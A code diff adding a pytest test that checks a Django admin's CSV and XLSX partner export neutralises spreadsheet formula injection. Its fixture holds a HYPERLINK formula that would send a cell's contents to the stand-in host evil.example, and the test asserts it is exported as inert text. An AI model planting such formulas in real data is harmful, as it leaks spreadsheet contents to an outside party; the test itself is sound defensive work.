@@ -144,3 +144,35 @@ def test_inline_contacts_saved_in_the_admin_are_recorded_and_versioned(staff_cli
     old.refresh_from_db()
     assert (old.name, old.version) == ("Uusi nimi", 2)
     assert old.history.latest().history_user == staff
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_the_admin_export_writes_formula_like_text_as_text(staff_client, locality, file_format):
+    """A coordinator's `=HYPERLINK(…)` reaches staff's spreadsheet as text, never as a live formula: the
+    admin's export goes through the portal's writers and their one neutralising rule."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from networks.admin import PartnerResource
+
+    PartnerFactory(locality=locality, name='=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")', address="@SUM(1)")
+    fields = PartnerResource().get_export_order()
+    response = staff_client.post(
+        reverse("admin:networks_partner_export"),
+        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
+        | {f"partnerresource_{name}": "on" for name in fields},
+    )
+    assert response.status_code == 200, response.content[:500]
+    assert response["Content-Type"].startswith({"csv": "text/csv", "xlsx": "application/vnd.openxml"}[file_format])
+    if file_format == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    else:
+        workbook = load_workbook(io.BytesIO(response.content))
+        assert not any(cell.data_type == "f" for row in workbook.active.iter_rows() for cell in row)
+        rows = [["" if value is None else value for value in row] for row in workbook.active.values]
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert record["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")"""
+    assert record["address"] == "'@SUM(1)"
+    assert record["locality"] == "kajaani"
